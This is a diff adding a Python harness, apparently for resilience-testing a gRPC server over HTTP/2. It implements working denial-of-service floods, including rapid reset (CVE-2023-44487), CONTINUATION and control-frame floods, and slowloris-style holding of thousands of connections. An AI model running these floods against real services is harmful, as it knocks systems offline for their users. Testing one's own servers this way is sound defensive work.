@@ -1,0 +1,228 @@
+"""What is done to a server, each as a process of its own: `python3 attacks.py NAME HOST:PORT SECONDS`.
+
+Each prints one line of JSON: how many connections it made, what it sent, how many were told to go away (GOAWAY, and with
+which codes), how many were closed, and how long the longest was kept. It ends by itself.
+"""
+import json
+import resource
+import selectors
+import socket
+import sys
+import threading
+import time
+
+import frames
+from frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
+                    WINDOW_UPDATE, begin, frame, head, message)
+
+AUTHORISE = b"/waika.v1.AuthorisationService/Authorise"
+GET_ACCOUNT = b"/waika.v1.CardService/GetAccount"
+# Enough for a server that would take any number.
+CONNECTIONS = 4
+# What is sent before it is looked whether the server has said anything.
+PIECE = 64 * 1024
+
+
+class Tally:
+    def __init__(self):
+        self.lock = threading.Lock()
+        self.connections = self.sent_bytes = self.closed = self.refused = 0
+        self.goaway = {}
+        self.longest = 0.0
+
+    def add(self, **told):
+        with self.lock:
+            for name, value in told.items():
+                if name == "goaway":
+                    self.goaway[value] = self.goaway.get(value, 0) + 1
+                elif name == "longest":
+                    self.longest = max(self.longest, value)
+                else:
+                    setattr(self, name, getattr(self, name) + value)
+
+    def line(self):
+        told = {name: value for name, value in vars(self).items() if name != "lock"}
+        return json.dumps({**told, "longest": round(self.longest, 2)})
+
+
+def streams(make):
+    """Endless pieces of what is made for each stream's number."""
+    def pieces():
+        number = 1
+        while number < 2**31 - 1:
+            piece = bytearray()
+            while len(piece) < PIECE and number < 2**31 - 1:
+                piece += make(number)
+                number += 2
+            yield bytes(piece)
+    return pieces
+
+
+def repeated(once, each):
+    """One beginning, then the same for ever."""
+    def pieces():
+        yield once
+        piece = each * max(1, PIECE // len(each))
+        while True:
+            yield piece
+    return pieces
+
+
+def call(number, path=AUTHORISE, body=b""):
+    return (frame(HEADERS, END_HEADERS, number, head(path)) + frame(DATA, END_STREAM, number, message(body)))
+
+
+ACCOUNT = b"\x0a\x06nobody"
+FLOODS = {
+    # CVE-2023-44487: begun and reset at once.
+    "rapid-reset": streams(lambda number: frame(HEADERS, END_HEADERS, number, head(AUTHORISE))
+                           + frame(RST_STREAM, 0, number, b"\0\0\0\x08")),
+    # RUSTSEC-2024-0003: mistakes that the server has to reset.
+    "local-error-reset": streams(lambda number: frame(HEADERS, END_HEADERS, number, head(
+        AUTHORISE, [(b"content-length", b"5")])) + frame(DATA, END_STREAM, number, b"more than five")),
+    # RUSTSEC-2024-0332: a head that never ends.
+    "continuation": repeated(frame(HEADERS, 0, 1, head(AUTHORISE)),
+                             frame(CONTINUATION, 0, 1, frames.literal(b"x-flood", b"y" * 200))),
+    # Nothing, again and again.
+    "empty-data": repeated(frame(HEADERS, END_HEADERS, 1, head(AUTHORISE)), frame(DATA, 0, 1)),
+    "ping": repeated(b"", frame(PING, 0, 0, b"12345678")),
+    "settings": repeated(b"", frame(SETTINGS, 0, 0)),
+    "window-update": repeated(frame(HEADERS, END_HEADERS, 1, head(AUTHORISE)),
+                              frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")),
+    # Calls by the book, as many as can be sent.
+    "calls": streams(lambda number: call(number, GET_ACCOUNT, ACCOUNT)),
+    # Messages of nearly 16 KiB a frame, without end.
+    "oversized": repeated(frame(HEADERS, END_HEADERS, 1, head(AUTHORISE)) + frame(DATA, 0, 1, b"\0\x7f\xff\xff\xff"),
+                          frame(DATA, 0, 1, b"z" * 16_000)),
+}
+
+
+def flood(address, pieces, until, tally):
+    """Sends on one connection after the other, and reads what is told, so that nothing is held back for that."""
+    while time.monotonic() < until:
+        began = time.monotonic()
+        try:
+            sock = socket.create_connection(address, timeout=2)
+        except OSError:
+            tally.add(refused=1)
+            time.sleep(0.05)
+            continue
+        tally.add(connections=1)
+        told = bytearray()
+        sock.setblocking(False)
+        waiting = selectors.DefaultSelector()
+        waiting.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
+        source = pieces()
+        outbox = begin() + frame(SETTINGS, ACK, 0)
+        try:
+            while time.monotonic() < until:
+                for _, events in waiting.select(0.2):
+                    if events & selectors.EVENT_READ:
+                        told += sock.recv(65_536) or raise_closed()
+                        if len(told) > 1 << 20:
+                            note_goaway(told, tally)
+                            told = bytearray()
+                    if events & selectors.EVENT_WRITE:
+                        outbox = outbox or next(source, b"") or raise_closed()
+                        count = sock.send(outbox)
+                        tally.add(sent_bytes=count)
+                        outbox = outbox[count:]
+        except (OSError, EOFError):
+            tally.add(closed=1)
+        note_goaway(told, tally)
+        tally.add(longest=time.monotonic() - began)
+        waiting.close()
+        sock.close()
+
+
+def raise_closed():
+    raise EOFError
+
+
+def note_goaway(told, tally):
+    for kind, _, _, payload in frames.frames_of(bytes(told)):
+        if kind == GOAWAY:
+            tally.add(goaway=str(int.from_bytes(payload[4:8], "big")))
+
+
+# What the 5,000 say first, and what they add each second.
+SLOW = {
+    "slow-silent": (b"", b""),
+    "slow-preface": (b"PRI", b" "),
+    "slow-tls": (b"\x16\x03\x01\x02\x00\x01", b"\0"),
+    "slow-head": (begin() + frame(SETTINGS, ACK, 0) + b"\x00\x40\x00\x01\x04\x00\x00\x00\x01", b"\x83"),
+}
+
+
+def slowly(address, kind, until, tally, count=5_000):
+    """Holds so many connections open, each with a byte a second, and opens another one where one is closed."""
+    first, each = SLOW[kind]
+    held, next_byte = {}, time.monotonic() + 1
+    waiting = selectors.DefaultSelector()
+    while time.monotonic() < until:
+        for _ in range(min(200, count - len(held))):
+            sock = socket.socket()
+            sock.setblocking(False)
+            if sock.connect_ex(address) not in (0, 115):
+                tally.add(refused=1)
+                sock.close()
+                break
+            held[sock] = [time.monotonic(), False]
+            tally.add(connections=1)
+            waiting.register(sock, selectors.EVENT_READ)
+        is_due = time.monotonic() > next_byte
+        next_byte += is_due
+        for sock, state in list(held.items()) if is_due else []:
+            try:
+                data, state[1] = (each if state[1] else first), True
+                tally.add(sent_bytes=sock.send(data) if data else 0)
+            except OSError:
+                pass
+        for key, _ in waiting.select(0.05):
+            sock = key.fileobj
+            try:
+                if sock.recv(65_536):
+                    continue
+            except OSError:
+                pass
+            tally.add(closed=1, longest=time.monotonic() - held.pop(sock)[0])
+            waiting.unregister(sock)
+            sock.close()
+    now = time.monotonic()
+    for began, _ in held.values():
+        tally.add(longest=now - began)
+
+
+def connect_only(address, until, tally):
+    """Opens and closes."""
+    while time.monotonic() < until:
+        try:
+            socket.create_connection(address, timeout=2).close()
+            tally.add(connections=1)
+        except OSError:
+            tally.add(refused=1)
+
+
+def main():
+    name, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
+    host, port = address.rsplit(":", 1)
+    address, until, tally = (host, int(port)), time.monotonic() + seconds, Tally()
+    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    if name in FLOODS:
+        threads = [threading.Thread(target=flood, args=(address, FLOODS[name], until, tally)) for _ in range(CONNECTIONS)]
+    elif name in SLOW:
+        threads = [threading.Thread(target=slowly, args=(address, name, until, tally))]
+    elif name == "connect":
+        threads = [threading.Thread(target=connect_only, args=(address, until, tally)) for _ in range(CONNECTIONS)]
+    else:
+        sys.exit(f"no attack is named {name}: there are {' '.join([*FLOODS, *SLOW, 'connect'])}")
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    print(tally.line())
+
+
+if __name__ == "__main__":
+    main()
